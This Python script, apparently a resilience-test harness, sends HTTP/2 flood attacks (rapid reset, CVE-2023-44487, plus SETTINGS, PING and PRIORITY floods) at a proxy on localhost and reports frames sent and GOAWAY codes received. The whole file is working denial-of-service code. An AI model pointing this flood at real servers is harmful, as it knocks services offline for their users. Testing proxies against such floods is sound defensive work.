"""An HTTP/2 flood, as an attacker sends it: raw frames as fast as the socket takes them,
a new connection whenever the proxy closes one, for a bounded time and frame count.

Usage: python flood.py KIND PORT SECONDS MAX_FRAMES
KIND: rapid-reset (HEADERS then RST_STREAM, CVE-2023-44487), settings, ping, priority.
Prints one JSON line: frames sent, connections made, GOAWAY codes received by count.
Runs at the lowest CPU priority, so that on a small machine the test measures how the
proxy treats its other clients, not how the kernel shares cores with the attacker.
"""

from __future__ import annotations

import collections
import json
import os
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x2, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
BATCH = 200  # frames (pairs, for rapid reset) per write


def frame(kind: int, flags: int, stream_id: int, payload: bytes) -> bytes:
    head = struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream_id)
    return head + payload


def request_block() -> bytes:
    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "app")]
    return hpack.Encoder().encode(headers)


class Attack:
    def __init__(self, kind: str) -> None:
        self.kind = kind
        self.block = request_block()
        self.next_stream = 1

    def batch(self) -> tuple[bytes, int]:
        if self.kind == "rapid-reset":
            parts = []
            for _ in range(BATCH):
                stream, self.next_stream = self.next_stream, self.next_stream + 2
                parts.append(frame(HEADERS, END_HEADERS, stream, self.block))
                parts.append(frame(RST_STREAM, 0, stream, struct.pack("!I", 0x8)))
            return b"".join(parts), 2 * BATCH
        if self.kind == "settings":
            one = frame(SETTINGS, 0, 0, struct.pack("!HI", 0x4, 65535))
        elif self.kind == "ping":
            one = frame(PING, 0, 0, b"attacker")
        elif self.kind == "priority":
            one = frame(PRIORITY, 0, 3, struct.pack("!IB", 0, 15))
        else:
            raise SystemExit(f"unknown attack {self.kind!r}")
        return one * BATCH, BATCH


class Frames:
    """Reads the proxy's frames as they come (only GOAWAY matters here)."""

    def __init__(self) -> None:
        self.buffer = b""
        self.goaways: list[int] = []

    def feed(self, data: bytes) -> None:
        buffer = self.buffer + data
        offset = 0
        while offset + 9 <= len(buffer):
            length = int.from_bytes(buffer[offset : offset + 3], "big")
            end = offset + 9 + length
            if end > len(buffer):
                break
            if buffer[offset + 3] == GOAWAY and length >= 8:
                self.goaways.append(struct.unpack("!I", buffer[offset + 13 : offset + 17])[0])
            offset = end
        self.buffer = buffer[offset:]


def run(kind: str, port: int, seconds: float, max_frames: int) -> dict[str, object]:
    deadline = time.monotonic() + seconds
    sent = connections = 0
    goaways: collections.Counter[int] = collections.Counter()
    while time.monotonic() < deadline and sent < max_frames:
        attack, frames = Attack(kind), Frames()
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        except OSError:
            continue
        connections += 1
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            while time.monotonic() < deadline and sent < max_frames:
                data, count = attack.batch()
                sock.sendall(data)
                sent += count
                while select.select([sock], [], [], 0)[0]:
                    chunk = sock.recv(65536)
                    if not chunk:
                        raise ConnectionResetError
                    frames.feed(chunk)
        except OSError:
            pass
        finally:
            # What the proxy had sent before it closed: its GOAWAY, if it said one.
            sock.setblocking(False)
            try:
                while chunk := sock.recv(65536):
                    frames.feed(chunk)
            except OSError:
                pass
            sock.close()
        goaways.update(frames.goaways)
    return {"frames": sent, "connections": connections, "goaway": dict(goaways)}


if __name__ == "__main__":
    os.nice(19)
    kind, port, seconds, max_frames = sys.argv[1], int(sys.argv[2]), *sys.argv[3:5]
    print(json.dumps(run(kind, port, float(seconds), int(max_frames))))
